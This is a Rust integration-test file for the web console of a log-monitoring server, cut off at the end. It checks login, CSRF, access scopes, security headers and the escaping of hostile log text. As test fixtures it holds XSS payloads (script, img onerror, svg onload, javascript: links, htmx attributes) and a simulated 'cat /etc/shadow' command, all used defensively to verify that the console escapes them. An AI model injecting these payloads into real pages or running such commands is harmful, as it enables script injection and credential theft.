//! The console against a real server (temporary data directory, loopback port 0), driven
//! through its router: login, sessions, CSRF, scopes, escaping of hostile log text, headers.

use std::collections::BTreeSet;
use std::time::Duration;

use axum::body::Body;
use axum::http::{header, Request, StatusCode};
use axum::Router;
use crowsnest_server::auth::Scope;
use http_body_util::BodyExt;
use tower::ServiceExt;

/// Log lines that try every way to run script in a console.
pub(crate) const XSS_CORPUS: [&str; 8] = [
    "<script>alert('xss-script')</script>",
    "<img src=x onerror=alert('xss-img')>",
    "<svg onload=alert('xss-svg')></svg>",
    "javascript:alert('xss-link')",
    "<a href=\"javascript:alert('xss-href')\">click</a>",
    "<div hx-get=\"/logout\" hx-trigger=\"load\">hx</div>",
    "<button hx-on:click=\"alert('xss-hxon')\">b</button>",
    "\"><script>alert('xss-attr')</script><input value=\"",
];

struct Fixture {
    _dir: tempfile::TempDir,
    running: crowsnest_server::Running,
    console: Router,
    admin: String,
    reader: String,
}

async fn fixture() -> Fixture {
    fixture_with(|_| {}).await
}

/// [`fixture`] with its server configuration changed by `tune` first.
async fn fixture_with(tune: impl FnOnce(&mut crowsnest_server::ServerConfig)) -> Fixture {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut config = crowsnest_server::ServerConfig {
        listen: "127.0.0.1:0".into(),
        data_dir: dir.path().to_path_buf(),
        ..Default::default()
    };
    config.pipeline.commit_interval_ms = 20;
    tune(&mut config);
    // The tests count the events they ingest: no integrity verification event at start.
    config.integrity.verify_interval_secs = 0;
    let running = crowsnest_server::start(config)
        .await
        .expect("server starts");
    let admin = running.new_admin_token.clone().expect("new admin token");
    let reader = running
        .state
        .tokens
        .create("reader", BTreeSet::from([Scope::Read]))
        .expect("reader token");
    // Hostile text in the message, in a field name's value, and in the original line.
    let now = chrono::Utc::now().to_rfc3339();
    let mut lines = String::new();
    for (i, text) in XSS_CORPUS.iter().enumerate() {
        let event = serde_json::json!({"@timestamp": now, "message": text, "user": {"name": text}, "kubernetes": {"namespace": format!("ns{i}"), "pod": {"name": text}}});
        lines.push_str(&event.to_string());
        lines.push('\n');
    }
    let big = "A".repeat(20_000);
    lines.push_str(
        &serde_json::json!({"@timestamp": now, "message": big, "user": {"name": "big"}})
            .to_string(),
    );
    lines.push('\n');
    ingest(&running.state, &admin, lines).await;
    let console = crate::router(running.state.clone());
    Fixture {
        _dir: dir,
        running,
        console,
        admin,
        reader,
    }
}

pub(crate) struct Answer {
    pub(crate) status: StatusCode,
    pub(crate) headers: axum::http::HeaderMap,
    pub(crate) body: String,
}

/// Posts NDJSON `lines` to the ingest API with `token`, requires 200, and waits until the
/// acknowledged events are committed (searchable).
pub(crate) async fn ingest(
    state: &std::sync::Arc<crowsnest_server::AppState>,
    token: &str,
    lines: String,
) {
    let response = crowsnest_server::app(state.clone())
        .oneshot(
            Request::post("/api/v1/ingest/ndjson")
                .header(header::AUTHORIZATION, format!("Bearer {token}"))
                .header(header::CONTENT_TYPE, "application/x-ndjson")
                .body(Body::from(lines))
                .expect("request"),
        )
        .await
        .expect("ingest");
    assert_eq!(response.status(), StatusCode::OK);
    for _ in 0..500 {
        if state.pipeline.committed_next() >= state.pipeline.acked_next() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
}

pub(crate) async fn send(router: &Router, request: Request<Body>) -> Answer {
    let response = router.clone().oneshot(request).await.expect("response");
    let status = response.status();
    let headers = response.headers().clone();
    let bytes = response
        .into_body()
        .collect()
        .await
        .expect("body")
        .to_bytes();
    Answer {
        status,
        headers,
        body: String::from_utf8_lossy(&bytes).into_owned(),
    }
}

fn set_cookie(answer: &Answer, name: &str) -> Option<String> {
    answer
        .headers
        .get_all(header::SET_COOKIE)
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find(|v| v.starts_with(&format!("{name}=")))
        .map(str::to_string)
}

fn hidden(body: &str, name: &str) -> String {
    let marker = format!("name=\"{name}\" value=\"");
    let start = body
        .find(&marker)
        .map(|i| i + marker.len())
        .expect("hidden field");
    body[start..]
        .split('"')
        .next()
        .unwrap_or_default()
        .to_string()
}

/// Logs in with `token`; returns the session cookie (`cn_session=...`) and the CSRF token.
pub(crate) async fn login(router: &Router, token: &str) -> (String, String) {
    let form = send(
        router,
        Request::get("/login").body(Body::empty()).expect("req"),
    )
    .await;
    let login_cookie = set_cookie(&form, "cn_login").expect("login cookie");
    let pair = login_cookie
        .split(';')
        .next()
        .unwrap_or_default()
        .to_string();
    let csrf = hidden(&form.body, "csrf");
    let body =
        serde_urlencoded::to_string([("token", token), ("csrf", &csrf), ("next", "/search")])
            .expect("form");
    let answer = send(
        router,
        Request::post("/login")
            .header(header::COOKIE, pair)
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
            .body(Body::from(body))
            .expect("req"),
    )
    .await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.body);
    let session = set_cookie(&answer, "cn_session").expect("session cookie");
    assert!(
        session.contains("HttpOnly")
            && session.contains("SameSite=Strict")
            && session.contains("Path=/"),
        "{session}"
    );
    let cookie = session.split(';').next().unwrap_or_default().to_string();
    let page = send(
        router,
        Request::get("/search")
            .header(header::COOKIE, &cookie)
            .body(Body::empty())
            .expect("req"),
    )
    .await;
    assert_eq!(page.status, StatusCode::OK);
    let csrf = hidden(&page.body, "csrf");
    (cookie, csrf)
}

pub(crate) fn get(path: &str, cookie: &str) -> Request<Body> {
    Request::get(path)
        .header(header::COOKIE, cookie)
        .body(Body::empty())
        .expect("req")
}

pub(crate) fn post(path: &str, cookie: &str, form: &[(&str, &str)]) -> Request<Body> {
    Request::post(path)
        .header(header::COOKIE, cookie)
        .header(header::HOST, "127.0.0.1:8470")
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::from(serde_urlencoded::to_string(form).expect("form")))
        .expect("req")
}

#[tokio::test]
async fn pages_need_a_session_and_login_checks_token_and_form() {
    let f = fixture().await;
    let answer = send(
        &f.console,
        Request::get("/search?q=x")
            .body(Body::empty())
            .expect("req"),
    )
    .await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER);
    assert_eq!(
        answer
            .headers
            .get(header::LOCATION)
            .and_then(|v| v.to_str().ok()),
        Some("/login?next=%2Fsearch%3Fq%3Dx")
    );
    // htmx (the histogram) is told to load the login page instead of getting it in a fragment.
    let answer = send(
        &f.console,
        Request::get("/search/histogram?q=x")
            .header("hx-request", "true")
            .body(Body::empty())
            .expect("req"),
    )
    .await;
    assert_eq!(answer.status, StatusCode::NO_CONTENT);
    assert_eq!(
        answer
            .headers
            .get("hx-redirect")
            .and_then(|v| v.to_str().ok()),
        Some("/login?next=%2Fsearch")
    );
    // A forged session cookie is no session.
    let answer = send(&f.console, get("/alerts", "cn_session=00ff")).await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER);

    // The login form's value must match its cookie (login CSRF).
    let form = send(
        &f.console,
        Request::get("/login").body(Body::empty()).expect("req"),
    )
    .await;
    let csrf = hidden(&form.body, "csrf");
    let body = serde_urlencoded::to_string([("token", f.admin.as_str()), ("csrf", csrf.as_str())])
        .expect("form");
    let answer = send(
        &f.console,
        Request::post("/login")
            .header(header::COOKIE, "cn_login=other")
            .body(Body::from(body))
            .expect("req"),
    )
    .await;
    assert_eq!(answer.status, StatusCode::UNAUTHORIZED);
    assert!(set_cookie(&answer, "cn_session").is_none());
    // An unknown token is refused.
    let pair = set_cookie(&form, "cn_login")
        .expect("cookie")
        .split(';')
        .next()
        .unwrap_or_default()
        .to_string();
    let body =
        serde_urlencoded::to_string([("token", "cn_nope"), ("csrf", csrf.as_str())]).expect("form");
    let answer = send(
        &f.console,
        Request::post("/login")
            .header(header::COOKIE, &pair)
            .body(Body::from(body))
            .expect("req"),
    )
    .await;
    assert_eq!(answer.status, StatusCode::UNAUTHORIZED);
    assert!(answer.body.contains("Unknown token"));
    assert!(set_cookie(&answer, "cn_session").is_none());

    let (cookie, csrf) = login(&f.console, &f.reader).await;
    let page = send(&f.console, get("/alerts", &cookie)).await;
    assert_eq!(page.status, StatusCode::OK);
    // Logout needs the CSRF token; afterwards the cookie is worthless.
    let answer = send(&f.console, post("/logout", &cookie, &[("csrf", "wrong")])).await;
    assert_eq!(answer.status, StatusCode::FORBIDDEN);
    let answer = send(&f.console, post("/logout", &cookie, &[("csrf", &csrf)])).await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER);
    let answer = send(&f.console, get("/search", &cookie)).await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER);
    f.running.shutdown().await.expect("shutdown");
}

#[tokio::test]
async fn a_replaced_token_ends_its_sessions() {
    let f = fixture().await;
    let (cookie, _) = login(&f.console, &f.reader).await;
    f.running
        .state
        .tokens
        .create("reader", BTreeSet::from([Scope::Read]))
        .expect("replace");
    let answer = send(&f.console, get("/search", &cookie)).await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER);
    f.running.shutdown().await.expect("shutdown");
}

#[tokio::test]
async fn hostile_log_text_is_inert_and_headers_are_strict() {
    let f = fixture().await;
    let (cookie, _) = login(&f.console, &f.admin).await;
    let page = send(
        &f.console,
        get(
            "/search?q=&range=1h&cols=@timestamp,message,user.name",
            &cookie,
        ),
    )
    .await;
    assert_eq!(page.status, StatusCode::OK);
    let csp = page
        .headers
        .get(header::CONTENT_SECURITY_POLICY)
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default();
    assert_eq!(csp, crate::CSP);
    assert!(
        csp.contains("default-src 'self'")
            && csp.contains("frame-ancestors 'none'")
            && !csp.contains("unsafe")
    );
    assert_eq!(
        page.headers
            .get(header::X_CONTENT_TYPE_OPTIONS)
            .and_then(|v| v.to_str().ok()),
        Some("nosniff")
    );
    assert_eq!(
        page.headers
            .get(header::REFERRER_POLICY)
            .and_then(|v| v.to_str().ok()),
        Some("same-origin")
    );
    assert_eq!(
        page.headers
            .get(header::CACHE_CONTROL)
            .and_then(|v| v.to_str().ok()),
        Some("no-store")
    );
    let body = &page.body;
    assert!(
        body.contains("&lt;script&gt;alert('xss-script')&lt;/script&gt;")
            || body.contains("&lt;script&gt;alert(&#39;xss-script&#39;)"),
        "the text is shown, escaped"
    );
    for tag in [
        "<img",
        "<svg",
        "<script>alert",
        "<a href=\"javascript",
        "<button hx-on",
        "<div hx-get",
        "<input value",
    ] {
        assert!(!body.contains(tag), "`{tag}` came through unescaped");
    }
    // The only scripts are ours (by URL), the only hx-get is the histogram's.
    assert_eq!(body.matches("<script").count(), 3);
    assert_eq!(body.matches(" hx-get=\"").count(), 1);
    for (i, _) in body.match_indices(" hx-on") {
        assert!(
            body[..i].ends_with("&lt;button"),
            "hx-on outside escaped text: {}",
            &body[i.saturating_sub(60)..i]
        );
    }
    assert!(!body.contains("href=\"javascript:"));
    assert!(
        !body.contains("href=\"javascript"),
        "a javascript: value never becomes a link target"
    );
    // The 20 000-byte message is cut at 8 KiB, saying how much more there is.
    assert!(
        body.contains(&format!(
            "{} bytes more",
            20_000 - crate::render::MAX_VALUE_BYTES
        )),
        "cut"
    );
    assert!(body.contains("matching (exact count)"));
    // Clicking a value filters on it: the link's query parses back to the value.
    assert!(body.contains("title=\"Filter on user.name\""));
    // The dashboard's panels show the same text, escaped too.
    let dashboard = send(&f.console, get("/dashboard?range=1h", &cookie)).await;
    assert_eq!(dashboard.status, StatusCode::OK);
    assert!(
        dashboard.body.contains("Top namespaces") && dashboard.body.contains("<td>ns3</td>"),
        "{}",
        dashboard.body
    );
    assert!(
        dashboard.body.contains("&lt;svg onload") && !dashboard.body.contains("<svg"),
        "top pods show the corpus as text"
    );
    assert!(
        dashboard.body.contains(">sending<"),
        "a source that just sent is not silent"
    );
    // The histogram fragment: data for uPlot in an attribute, escaped.
    let fragment = send(&f.console, get("/search/histogram?q=&range=1h", &cookie)).await;
    assert_eq!(fragment.status, StatusCode::OK);
    assert!(
        fragment.body.contains("data-chart=\"{&quot;x&quot;:["),
        "{}",
        fragment.body
    );
    assert!(fragment.body.contains(" events in "), "{}", fragment.body);
    f.running.shutdown().await.expect("shutdown");
}

#[tokio::test]
async fn query_errors_point_at_the_column_and_exports_stream() {
    let f = fixture().await;
    let (cookie, _) = login(&f.console, &f.reader).await;
    let page = send(
        &f.console,
        get("/search?q=user.name%3A(alice&range=1h", &cookie),
    )
    .await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(
        page.body.contains("query syntax error at column"),
        "{}",
        page.body
    );
    assert!(
        page.body.contains("<pre class=\"caret\""),
        "caret under the column"
    );
    let histogram = send(
        &f.console,
        get("/search/histogram?q=user.name%3A(alice&range=1h", &cookie),
    )
    .await;
    assert!(
        histogram.body.contains("Histogram unavailable"),
        "its own error state"
    );
    // Pipes render as tables.
    let stats = send(
        &f.console,
        get(
            "/search?q=*+%7C+stats+count()+by+kubernetes.namespace&range=1h",
            &cookie,
        ),
    )
    .await;
    assert!(
        stats
            .body
            .contains("<th scope=\"col\">kubernetes.namespace</th>"),
        "{}",
        stats.body
    );
    assert!(
        stats.body.contains("rows from 9 matching events"),
        "{}",
        stats.body
    );
    let csv = send(
        &f.console,
        get(
            "/search/export?format=csv&q=user.name%3Abig&range=1h&cols=user.name,message",
            &cookie,
        ),
    )
    .await;
    assert_eq!(csv.status, StatusCode::OK);
    assert_eq!(
        csv.headers
            .get(header::CONTENT_TYPE)
            .and_then(|v| v.to_str().ok()),
        Some("text/csv; charset=utf-8")
    );
    let mut lines = csv.body.lines();
    assert_eq!(lines.next(), Some("user.name,message"));
    assert_eq!(
        lines.next().map(str::len),
        Some("big,".len() + 20_000),
        "exports are not cut"
    );
    let ndjson = send(
        &f.console,
        get("/search/export?format=ndjson&q=&range=1h", &cookie),
    )
    .await;
    assert_eq!(ndjson.body.lines().count(), 9);
    let bad = send(
        &f.console,
        get("/search/export?format=ndjson&q=(&range=1h", &cookie),
    )
    .await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);
    f.running.shutdown().await.expect("shutdown");
}

#[tokio::test]
async fn incident_actions_need_admin_and_the_csrf_token() {
    let f = fixture().await;
    let (reader_cookie, reader_csrf) = login(&f.console, &f.reader).await;
    let answer = send(
        &f.console,
        post(
            "/incidents/x/action",
            &reader_cookie,
            &[("csrf", &reader_csrf), ("action", "acknowledge")],
        ),
    )
    .await;
    assert_eq!(
        answer.status,
        StatusCode::FORBIDDEN,
        "a read token cannot act"
    );
    let (cookie, csrf) = login(&f.console, &f.admin).await;
    let answer = send(
        &f.console,
        post("/incidents/x/action", &cookie, &[("action", "acknowledge")]),
    )
    .await;
    assert_eq!(answer.status, StatusCode::FORBIDDEN, "no CSRF token");
    let answer = send(
        &f.console,
        post(
            "/incidents/x/action",
            &cookie,
            &[("csrf", &reader_csrf), ("action", "acknowledge")],
        ),
    )
    .await;
    assert_eq!(
        answer.status,
        StatusCode::FORBIDDEN,
        "another session's CSRF token"
    );
    let mut cross = post(
        "/incidents/x/action",
        &cookie,
        &[("csrf", &csrf), ("action", "acknowledge")],
    );
    cross.headers_mut().insert(
        header::ORIGIN,
        "http://evil.example".parse().expect("origin"),
    );
    assert_eq!(
        send(&f.console, cross).await.status,
        StatusCode::FORBIDDEN,
        "another origin"
    );
    // With everything right, the API's own checks answer (no such incident).
    let answer = send(
        &f.console,
        post(
            "/incidents/x/action",
            &cookie,
            &[("csrf", &csrf), ("action", "acknowledge")],
        ),
    )
    .await;
    assert_eq!(answer.status, StatusCode::BAD_REQUEST);
    assert!(answer.body.contains("no incident `x`"), "{}", answer.body);
    // The rules page: anyone may look, reloading needs admin and the CSRF token.
    let rules = send(&f.console, get("/rules", &reader_cookie)).await;
    assert_eq!(rules.status, StatusCode::OK);
    assert!(rules.body.contains("Loaded rules") && !rules.body.contains("Reload the rule files"));
    let answer = send(
        &f.console,
        post("/rules/reload", &reader_cookie, &[("csrf", &reader_csrf)]),
    )
    .await;
    assert_eq!(answer.status, StatusCode::FORBIDDEN);
    let answer = send(
        &f.console,
        post("/rules/reload", &cookie, &[("csrf", "nope")]),
    )
    .await;
    assert_eq!(answer.status, StatusCode::FORBIDDEN);
    let answer = send(
        &f.console,
        post("/rules/reload", &cookie, &[("csrf", &csrf)]),
    )
    .await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER);
    assert!(send(&f.console, get("/rules", &cookie))
        .await
        .body
        .contains("Reload the rule files"));
    let list = send(&f.console, get("/incidents", &cookie)).await;
    assert_eq!(list.status, StatusCode::OK);
    let missing = send(&f.console, get("/incidents/nope", &cookie)).await;
    assert_eq!(missing.status, StatusCode::NOT_FOUND);
    f.running.shutdown().await.expect("shutdown");
}

#[tokio::test]
async fn assets_are_hashed_and_cached() {
    let f = fixture().await;
    let (cookie, _) = login(&f.console, &f.reader).await;
    let page = send(&f.console, get("/search", &cookie)).await;
    let url = crate::assets::url("htmx.min.js");
    assert!(page.body.contains(url));
    let asset = send(
        &f.console,
        Request::get(url).body(Body::empty()).expect("req"),
    )
    .await;
    assert_eq!(asset.status, StatusCode::OK);
    assert_eq!(
        asset
            .headers
            .get(header::CACHE_CONTROL)
            .and_then(|v| v.to_str().ok()),
        Some("public, max-age=31536000, immutable")
    );
    let etag = asset.headers.get(header::ETAG).cloned().expect("etag");
    let again = send(
        &f.console,
        Request::get(url)
            .header(header::IF_NONE_MATCH, etag)
            .body(Body::empty())
            .expect("req"),
    )
    .await;
    assert_eq!(again.status, StatusCode::NOT_MODIFIED);
    let stale = send(
        &f.console,
        Request::get("/assets/htmx.min.0000000000000000.js")
            .body(Body::empty())
            .expect("req"),
    )
    .await;
    assert_eq!(stale.status, StatusCode::NOT_FOUND);
    f.running.shutdown().await.expect("shutdown");
}

#[tokio::test]
async fn an_exec_session_joins_the_processes_until_the_next_exec() {
    let f = fixture().await;
    let base = chrono::Utc::now() - chrono::Duration::minutes(10);
    let at = |secs: i64| {
        (base + chrono::Duration::seconds(secs))
            .to_rfc3339_opts(chrono::SecondsFormat::Micros, true)
    };
    let exec = |secs: i64, user: &str| {
        serde_json::json!({
            "@timestamp": at(secs), "event": {"dataset": "kubernetes.audit", "action": "create", "outcome": "success"},
            "user": {"name": user, "roles": ["system:masters"]}, "source": {"ip": "10.0.0.9"},
            "orchestrator": {"namespace": "payments", "resource": {"type": "pods", "name": "api-1", "subresource": "exec"}},
            "url": {"original": "/api/v1/namespaces/payments/pods/api-1/exec?command=sh"},
        })
    };
    let process = |secs: i64, command: &str| {
        serde_json::json!({
            "@timestamp": at(secs), "event": {"dataset": "auditd", "category": ["process"]},
            "kubernetes": {"namespace": "payments", "pod": {"name": "api-1"}},
            "process": {"command_line": command, "pid": 40 + secs, "user": {"name": "root"}, "parent": {"name": "sh"}},
        })
    };
    let events = [
        exec(0, "mallory"),
        process(1, "id"),
        process(2, "cat /etc/shadow <img src=x onerror=alert(1)>"),
        exec(10, "alice"),
        process(11, "ls"),
    ];
    let lines: String = events.iter().map(|e| format!("{e}\n")).collect();
    ingest(&f.running.state, &f.admin, lines).await;
    let (cookie, _) = login(&f.console, &f.reader).await;
    let list = send(&f.console, get("/exec?range=1h", &cookie)).await;
    assert!(
        list.body.contains("2 of 2 execs into pods"),
        "{}",
        list.body
    );
    let session_url = crate::render::link(
        "/exec/session",
        &[("namespace", "payments"), ("pod", "api-1"), ("at", &at(0))],
    );
    let page = send(&f.console, get(&session_url, &cookie)).await;
    assert_eq!(page.status, StatusCode::OK);
    let body = &page.body;
    assert!(
        body.contains("<dd>mallory</dd>")
            && body.contains("10.0.0.9")
            && body.contains("system:masters"),
        "{body}"
    );
    assert!(body.contains("2 of 2 process executions"), "{body}");
    let (id, shadow) = (
        body.find("<td>id</td>").expect("id ran"),
        body.find("cat /etc/shadow").expect("cat ran"),
    );
    assert!(id < shadow, "oldest first");
    assert!(
        !body.contains("<td>ls</td>"),
        "alice's session is not mallory's"
    );
    assert!(body.contains("the next exec into this pod"));
    assert!(!body.contains("<img"), "escaped");
    let bad = send(
        &f.console,
        get(
            "/exec/session?namespace=payments&pod=api-1&at=yesterday",
            &cookie,
        ),
    )
    .await;
    assert!(bad.body.contains("must be an RFC 3339 time"));
    f.running.shutdown().await.expect("shutdown");
}

#[tokio::test]
async fn rules_are_listed_shown_switched_tested_and_mapped_on_the_matrix() {
    let f = fixture().await;
    let status = crowsnest_server::api::rules_status(&f.running.state);
    let rule = status["rules"]
        .as_array()
        .and_then(|r| {
            r.iter().find(|r| {
                r["tags"]
                    .as_array()
                    .is_some_and(|t| t.iter().any(|t| t == "attack.t1609"))
            })
        })
        .cloned()
        .expect("a built-in rule tagged attack.t1609");
    let id = rule["id"].as_str().expect("id").to_string();
    let title = rule["title"].as_str().expect("title").to_string();
    let page = crate::rules::rule_path(&id);
    let (reader_cookie, reader_csrf) = login(&f.console, &f.reader).await;
    let list = send(&f.console, get("/rules", &reader_cookie)).await;
    assert_eq!(list.status, StatusCode::OK);
    let total = status["rules"].as_array().map(Vec::len).unwrap_or(0);
    assert!(total > 20, "{total}");
    assert_eq!(
        list.body.matches("<tr>").count(),
        total + 1,
        "one row per rule"
    );
    assert!(list.body.contains(&page), "links to each rule's page");
    // The rule's page: facts and source, no switch for a reader.
    let shown = send(&f.console, get(&page, &reader_cookie)).await;
    assert_eq!(shown.status, StatusCode::OK, "{}", shown.body);
    assert!(
        shown.body.contains("Sigma") || shown.body.contains("detection:"),
        "source shown"
    );
    assert!(shown.body.contains("/coverage?technique=T1609"));
    assert!(!shown.body.contains("Disable this rule"));
    let missing = send(&f.console, get("/rules/no-such-rule", &reader_cookie)).await;
    assert_eq!(missing.status, StatusCode::NOT_FOUND);
    let refused = send(
        &f.console,
        post(
            &format!("{page}/disable"),
            &reader_cookie,
            &[("csrf", &reader_csrf)],
        ),
    )
    .await;
    assert_eq!(refused.status, StatusCode::FORBIDDEN);
    // An admin disables it (CSRF checked), it is marked disabled, then enables it again.
    let (cookie, csrf) = login(&f.console, &f.admin).await;
    let answer = send(
        &f.console,
        post(&format!("{page}/disable"), &cookie, &[("csrf", "nope")]),
    )
    .await;
    assert_eq!(answer.status, StatusCode::FORBIDDEN);
    let answer = send(
        &f.console,
        post(&format!("{page}/disable"), &cookie, &[("csrf", &csrf)]),
    )
    .await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.body);
    assert!(f.running.state.detection.disabled_rules().contains(&id));
    let mut marked = false;
    for _ in 0..200 {
        let shown = send(&f.console, get(&page, &cookie)).await;
        if shown.body.contains("Enable this rule") && shown.body.contains("disabled") {
            marked = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(marked, "the detector applied the switch");
    let answer = send(
        &f.console,
        post(&format!("{page}/enable"), &cookie, &[("csrf", &csrf)]),
    )
    .await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER);
    assert!(f.running.state.detection.disabled_rules().is_empty());
    // A test over the stored events: counted, bounded, nothing alerted.
    let tested = send(
        &f.console,
        get(&format!("{page}?range=24h&max_events=5"), &cookie),
    )
    .await;
    assert_eq!(tested.status, StatusCode::OK);
    assert!(tested.body.contains("0 matches"), "{}", tested.body);
    assert!(tested.body.contains("5 events read of"), "{}", tested.body);
    assert!(
        tested.body.contains("Capped: only the newest 5"),
        "{}",
        tested.body
    );
    // The matrix: the technique's cell is covered and links to its detail, MITRE's notice shown.
    let matrix = send(&f.console, get("/coverage", &reader_cookie)).await;
    assert_eq!(matrix.status, StatusCode::OK);
    assert!(matrix.body.contains("The MITRE Corporation"));
    assert!(
        matrix.body.contains("class=\"cell gap\""),
        "gaps are visible"
    );
    assert!(matrix.body.contains("class=\"cell covered\""));
    let cell = send(&f.console, get("/coverage?technique=T1609", &reader_cookie)).await;
    assert!(cell.body.contains(&title), "the cell lists its rules");
    assert!(cell.body.contains("/alerts?technique=T1609"));
    f.running.shutdown().await.expect("shutdown");
}

#[tokio::test]
async fn an_incident_shows_its_rules_source_and_the_events_around_it() {
    let f = fixture().await;
    let now = chrono::Utc::now();
    let at = |secs: i64| {
        (now - chrono::Duration::seconds(60 - secs))
            .to_rfc3339_opts(chrono::SecondsFormat::Micros, true)
    };
    let audit = serde_json::json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Request",
        "auditID": "0c4e7d35-0000-4000-8000-000000000001", "stage": "ResponseComplete",
        "requestURI": "/api/v1/namespaces/prod/pods/web-1/exec?command=sh&stdin=true&tty=true",
        "verb": "create",
        "user": {"username": "alice@corp.example", "groups": ["devs", "system:authenticated"]},
        "sourceIPs": ["192.0.2.10"], "userAgent": "kubectl/v1.29.2 (linux/amd64)",
        "objectRef": {"resource": "pods", "namespace": "prod", "name": "web-1", "apiVersion": "v1", "subresource": "exec"},
        "responseStatus": {"metadata": {}, "code": 101},
        "requestReceivedTimestamp": at(0), "stageTimestamp": at(0),
        "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": "RBAC"}
    });
    let neighbour = serde_json::json!({
        "@timestamp": at(5), "event": {"dataset": "auditd", "category": ["process"]},
        "kubernetes": {"namespace": "prod", "pod": {"name": "web-1"}},
        "process": {"command_line": "id <svg onload=alert(1)>", "pid": 42},
    });
    let api = crowsnest_server::app(f.running.state.clone());
    for (uri, body) in [
        ("/api/v1/ingest/k8s-audit", audit.to_string()),
        ("/api/v1/ingest/ndjson", format!("{neighbour}\n")),
    ] {
        let response = api
            .clone()
            .oneshot(
                Request::post(uri)
                    .header(header::AUTHORIZATION, format!("Bearer {}", f.admin))
                    .header(header::CONTENT_TYPE, "application/json")
                    .body(Body::from(body))
                    .expect("request"),
            )
            .await
            .expect("ingest");
        assert_eq!(response.status(), StatusCode::OK, "{uri}");
    }
    let state = f.running.state.clone();
    let mut id = None;
    for _ in 0..600 {
        let listed =
            crowsnest_server::api::list_incidents(&state, &Default::default()).expect("incidents");
        if let Some(first) = listed.first() {
            id = first["id"].as_str().map(str::to_string);
            if state.pipeline.committed_next() >= state.pipeline.acked_next() {
                break;
            }
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let id = id.expect("the exec opened an incident");
    let (cookie, _) = login(&f.console, &f.reader).await;
    let mut body = String::new();
    for _ in 0..200 {
        let page = send(&f.console, get(&format!("/incidents/{id}"), &cookie)).await;
        assert_eq!(page.status, StatusCode::OK);
        body = page.body;
        if body.contains("events in pod prod/web-1") {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(body.contains("Events around it"), "{body}");
    assert!(body.contains("events in pod prod/web-1"), "{body}");
    assert!(
        body.contains("id &lt;svg onload=alert(1)&gt;"),
        "the neighbour, escaped: {body}"
    );
    assert!(body.contains("<details class=\"rule\">"), "{body}");
    assert!(
        body.contains("detection:"),
        "the rule's Sigma source: {body}"
    );
    f.running.shutdown().await.expect("shutdown");
}

#[tokio::test]
async fn the_query_bar_suggests_fields_then_values_of_the_range() {
    let f = fixture().await;
    let (cookie, _) = login(&f.console, &f.reader).await;
    let json = |body: &str| serde_json::from_str::<serde_json::Value>(body).expect("json");
    let texts = |answer: &serde_json::Value| -> Vec<String> {
        answer["items"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(|i| i["text"].as_str().map(str::to_string))
            .collect()
    };
    let fields = send(
        &f.console,
        get("/search/suggest?q=NOT%20user.na&range=1h", &cookie),
    )
    .await;
    assert_eq!(fields.status, StatusCode::OK);
    let fields = json(&fields.body);
    assert_eq!(fields["token"], "user.na");
    assert_eq!(texts(&fields), ["user.name:"]);
    assert!(
        fields["items"][0]["hint"]
            .as_str()
            .is_some_and(|h| h.starts_with("in 9 of")),
        "{fields}"
    );
    let values = json(
        &send(
            &f.console,
            get("/search/suggest?q=user.name%3Abi&range=1h", &cookie),
        )
        .await
        .body,
    );
    assert_eq!(texts(&values), ["user.name:big"]);
    // Hostile values come back as query text that parses to the same value.
    let values = json(
        &send(
            &f.console,
            get("/search/suggest?q=user.name%3A%3Cscr&range=1h", &cookie),
        )
        .await
        .body,
    );
    let text = texts(&values).into_iter().next().expect("a value");
    assert!(crowsnest_query::parse(&text).is_ok(), "{text}");
    // Nothing in a range without events; no session, no answer.
    let empty = json(
        &send(
            &f.console,
            get(
                "/search/suggest?q=us&start=2000-01-01T00:00&end=2000-01-02T00:00",
                &cookie,
            ),
        )
        .await
        .body,
    );
    assert_eq!(texts(&empty), Vec::<String>::new());
    let anonymous = send(
        &f.console,
        Request::get("/search/suggest?q=us")
            .body(Body::empty())
            .expect("req"),
    )
    .await;
    assert_ne!(anonymous.status, StatusCode::OK);
    f.running.shutdown().await.expect("shutdown");
}

/// The agent of node `n1`, in process: answers every command (an evidence command with an
/// inspect of one network), and records them.
/// Abort the returned task before shutting the server down (a closed queue answers at once).
#[allow(clippy::type_complexity)]
fn fake_agent(
    state: &std::sync::Arc<crowsnest_server::AppState>,
) -> (
    std::sync::Arc<std::sync::Mutex<Vec<crowsnest_model::command::AgentCommand>>>,
    tokio::task::JoinHandle<()>,
) {
    use crowsnest_model::command::CommandResult;
    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let (queue, log) = (state.commands.clone(), seen.clone());
    let task = tokio::spawn(async move {
        loop {
            tokio::task::yield_now().await;
            for command in queue.poll("n1", Duration::from_millis(500)).await {
                let mut result = CommandResult::refused(&command, "n1", "");
                result.ok = true;
                result.error = None;
                if command.evidence {
                    result.inspect = Some(serde_json::json!({
                        "Id": "web0123456789abcdef", "HostConfig": {"NetworkMode": "backend"},
                        "NetworkSettings": {"Networks": {"backend": {"Aliases": ["api"]}}}}));
                }
                log.lock().expect("lock").push(command);
                let _ = queue.complete(result);
            }
        }
    });
    (seen, task)
}

/// The containment actions of the server, once `check` holds (20 s at most).
async fn actions_when(
    state: &crowsnest_server::AppState,
    check: impl Fn(&[crowsnest_respond::contain::responder::Tracked]) -> bool,
